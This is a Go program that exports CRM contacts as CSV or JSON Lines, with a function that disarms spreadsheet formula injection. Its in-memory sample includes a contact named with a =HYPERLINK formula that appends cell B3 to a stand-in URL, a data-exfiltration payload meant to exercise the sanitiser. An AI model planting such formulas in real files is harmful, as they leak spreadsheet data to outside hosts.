// Export writes all contacts as CSV or JSON Lines, each as it arrives, so that memory use
// does not grow with their number.
//
//	go run . >contacts.csv
//	go run . -excel >contacts.csv
//	go run . -format jsonl -stage Replied -o replied.jsonl
//
// The CSV is UTF-8 with commas. With -excel it has a byte-order mark, semicolons and CRLF,
// as Excel expects where the comma is the decimal separator. In both, formulas are
// disarmed: see inert.
//
// The file of -o is replaced only when the export is complete. An export that fails or is
// interrupted leaves the old file, or none. If the contacts go to standard output, only the
// exit status shows whether they are complete.
//
// Standard error has a progress bar if it is a terminal, and a line every 10 seconds otherwise.
// In the end it has a summary. The exit status is 0 if the export is complete, 1 if it failed
// or was interrupted, and 2 if a flag does not exist.
//
// If GROWTHGENIUS_API_KEY and GROWTHGENIUS_USER_ID are set, it uses the real API, and only
// reads. Otherwise it uses a server in memory, over real HTTP, and does not accept -o.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"iter"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unicode"

	"golang.org/x/term"

	"github.com/growthgenius/growthgenius-go"
	"github.com/growthgenius/growthgenius-go/growthgeniustest"
)

// columns are the columns of the CSV: add or remove any. JSON Lines contain all fields that
// have a value.
var columns = []struct {
	name  string
	value func(*growthgenius.Contact) string
}{
	{"id", func(c *growthgenius.Contact) string { return string(c.ID) }},
	{"full_name", func(c *growthgenius.Contact) string { return c.FullName }},
	{"email", func(c *growthgenius.Contact) string { return c.Email }},
	{"phones", func(c *growthgenius.Contact) string { return strings.Join(c.Phones(), " / ") }},
	{"title", func(c *growthgenius.Contact) string { return c.Title }},
	{"company_name", func(c *growthgenius.Contact) string { return c.CompanyName }},
	{"website", func(c *growthgenius.Contact) string { return c.Website }},
	{"country", func(c *growthgenius.Contact) string { return c.Country }},
	{"stage", func(c *growthgenius.Contact) string { return c.Stage }},
	{"updated_at", func(c *growthgenius.Contact) string {
		if c.UpdatedAt.IsZero() {
			return ""
		}
		return c.UpdatedAt.Format(time.RFC3339)
	}},
}

func main() {
	format := flag.String("format", "csv", "csv, or jsonl for all fields that have a value")
	out := flag.String("o", "", "the `file` to write (default standard output)")
	excel := flag.Bool("excel", false, "write the CSV for Excel, with semicolons")
	stage := flag.String("stage", "", "export only the contacts in this `stage`")
	flag.Parse()
	if flag.NArg() > 0 {
		flag.Usage()
		os.Exit(2)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	context.AfterFunc(ctx, stop) // so that a second Ctrl-C ends the program at once
	err := run(ctx, *format, *excel, *out, *stage)
	switch {
	case err == nil:
		return
	case ctx.Err() == nil:
		fmt.Fprintln(os.Stderr, "export:", err)
	case *out == "":
		fmt.Fprintln(os.Stderr, "export: interrupted: standard output has only some of the contacts; run it again to get all")
	default:
		fmt.Fprintf(os.Stderr, "export: interrupted: %s was not written; run it again\n", *out)
	}
	os.Exit(1)
}

func run(ctx context.Context, format string, excel bool, out, stage string) error {
	newWriter, ok := map[string]func(io.Writer) writer{"csv": newCSV, "jsonl": newLines}[format]
	switch {
	case !ok:
		return fmt.Errorf("invalid -format %q: use csv or jsonl", format)
	case excel && format != "csv":
		return fmt.Errorf("-excel is for -format csv, and not for %s", format)
	case excel:
		newWriter = newExcel
	}
	var client *growthgenius.Client
	switch {
	case os.Getenv("GROWTHGENIUS_API_KEY") != "":
		var err error
		if client, err = growthgenius.NewClientFromEnv(); err != nil {
			return err
		}
	case out != "":
		return errors.New("GROWTHGENIUS_API_KEY is not set: -o would write the sample contacts of a server in memory")
	default:
		server, err := growthgeniustest.Start()
		if err != nil {
			return err
		}
		defer server.Close()
		server.AddContacts(sample...)
		client = server.Client()
		fmt.Fprintln(os.Stderr, "GROWTHGENIUS_API_KEY is not set: this is a server in memory.")
	}

	// A search ends after 10,000 contacts (SearchAll then returns ErrPartialResults). A stream
	// returns all contacts, and keep may be any condition.
	contacts := client.Contacts.Stream(ctx, growthgenius.ListOptions{})
	keep := func(c *growthgenius.Contact) bool {
		return stage == "" || strings.EqualFold(c.Stage, stage)
	}
	// The bar must not get in between contacts that are printed on the same terminal.
	terminal := isTerminal(os.Stderr) && (out != "" || !isTerminal(os.Stdout))
	save := func(w io.Writer) error {
		p := startProgress(ctx, os.Stderr, terminal, func(ctx context.Context) int64 { return total(ctx, client) })
		written, err := export(contacts, keep, newWriter(w), p)
		p.end()
		if err == nil {
			fmt.Fprintf(os.Stderr, "%d of %d contacts\n", written, p.count.Load())
		}
		return err
	}
	if out == "" {
		return save(os.Stdout)
	}
	return replaceFile(out, save)
}

// total returns how many contacts a search counts, or 0.
func total(ctx context.Context, client *growthgenius.Client) int64 {
	page, err := client.Contacts.Search(ctx, growthgenius.SearchOptions{PerPage: 1})
	if err != nil {
		return 0
	}
	return int64(page.Pagination.TotalEntries)
}

// export writes the contacts that are to be kept, and returns their number.
func export(contacts iter.Seq2[*growthgenius.Contact, error], keep func(*growthgenius.Contact) bool, w writer, p *progress) (written int, err error) {
	for contact, err := range contacts {
		if err != nil {
			return written, err
		}
		p.count.Add(1)
		if !keep(contact) {
			continue
		}
		if err := w.write(contact); err != nil {
			return written, err
		}
		written++
	}
	return written, w.flush()
}

func isTerminal(f *os.File) bool { return term.IsTerminal(int(f.Fd())) }

// writer writes contacts in one of the formats. Its output is buffered until flush.
type writer struct {
	write func(*growthgenius.Contact) error
	flush func() error
}

func newLines(w io.Writer) writer {
	buffered := bufio.NewWriter(w)
	encoder := json.NewEncoder(buffered)
	encoder.SetEscapeHTML(false)
	return writer{func(c *growthgenius.Contact) error { return encoder.Encode(c) }, buffered.Flush}
}

func newCSV(w io.Writer) writer { return newTable(bufio.NewWriter(w), ',', "\n") }

// newExcel writes the byte-order mark by which Excel recognizes UTF-8. Rows end with CRLF,
// but lines within a cell with LF, which is how Excel breaks them.
func newExcel(w io.Writer) writer {
	buffered := bufio.NewWriter(w)
	_, _ = buffered.WriteString("\uFEFF") // flush returns the error
	return newTable(buffered, ';', "\r\n")
}

func newTable(w *bufio.Writer, separator rune, end string) writer {
	var line bytes.Buffer
	rows := csv.NewWriter(&line)
	rows.Comma = separator
	put := func(cells []string) error {
		line.Reset()
		_ = rows.Write(cells)
		rows.Flush()
		line.Truncate(line.Len() - len("\n"))
		line.WriteString(end)
		_, err := line.WriteTo(w)
		return errors.Join(rows.Error(), err)
	}
	cells := make([]string, len(columns))
	for i, column := range columns {
		cells[i] = column.name
	}
	_ = put(cells) // flush returns the error
	return writer{
		func(c *growthgenius.Contact) error {
			for i, column := range columns {
				cells[i] = inert(column.value(c))
			}
			return put(cells)
		},
		w.Flush,
	}
}

const (
	formulaStarts  = "=+-@\t\r\n＝＋－＠"
	cellSeparators = ",;|\t\r\n" // at which a spreadsheet may split
)

// inert keeps a spreadsheet from running a formula that was entered as a name, such as
// =HYPERLINK("..."), by adding an apostrophe before it. A formula may also come after a
// separator in the cell: a spreadsheet that splits at semicolons finds two cells in
//
//	1,x;=1+2
//
// and the quotes around a cell only count if they come right after what it splits at.
// Spaces, quotes and invisible characters do not hide a formula either.
//
// Ordinary texts stay as they are, but phone numbers get an apostrophe too, because a
// spreadsheet reads +1-206 as a sum. Other programs see the apostrophe as part of the cell:
// they should read JSON Lines, in which values are not changed.
func inert(cell string) string {
	var b strings.Builder
	begins, last, done := true, ' ', 0
	for i, r := range cell {
		emptyLine := strings.ContainsRune("\r\n", last) && (r == '\n' || strings.HasPrefix(cell[i:], "\r\n"))
		if begins && strings.ContainsRune(formulaStarts, r) && !emptyLine {
			b.WriteString(cell[done:i] + "'")
			done = i
		}
		skipped := r == '"' || unicode.IsSpace(r) || unicode.In(r, unicode.Cc, unicode.Cf)
		begins = strings.ContainsRune(cellSeparators, r) || begins && skipped
		last = r
	}
	return b.String() + cell[done:]
}

// replaceFile writes a temporary file and gives it the name once it is complete. Only its
// owner can read it.
func replaceFile(name string, write func(io.Writer) error) (err error) {
	if info, err := os.Lstat(name); err == nil && !info.Mode().IsRegular() {
		return fmt.Errorf("%s is not a regular file: use standard output instead", name)
	}
	f, err := os.CreateTemp(filepath.Dir(name), "."+filepath.Base(name)+".*.part")
	if err != nil {
		return err
	}
	defer func() {
		if err != nil {
			_ = f.Close()
			err = errors.Join(err, os.Remove(f.Name()))
		}
	}()
	if err := write(f); err != nil {
		return err
	}
	if err := errors.Join(f.Sync(), f.Close()); err != nil {
		return err
	}
	return os.Rename(f.Name(), name)
}

// sample holds the contacts of the server in memory.
var sample = []growthgenius.Contact{
	{
		FullName: "Ada Byron", Email: "ada@example.com", MobilePhone: "+1 206 555 0100", Title: "Analyst, Engines",
		CompanyName: "Babbage & Co", Country: "United Kingdom", Stage: "Replied", UpdatedAt: time.Date(2021, 1, 19, 17, 6, 25, 0, time.UTC),
	},
	{
		FullName: `=HYPERLINK("https://example.com?"&B3,"Click me")`, Email: "mallory@example.com",
		Stage: "Cold", UpdatedAt: time.Date(2021, 1, 20, 9, 30, 0, 0, time.UTC),
	},
}
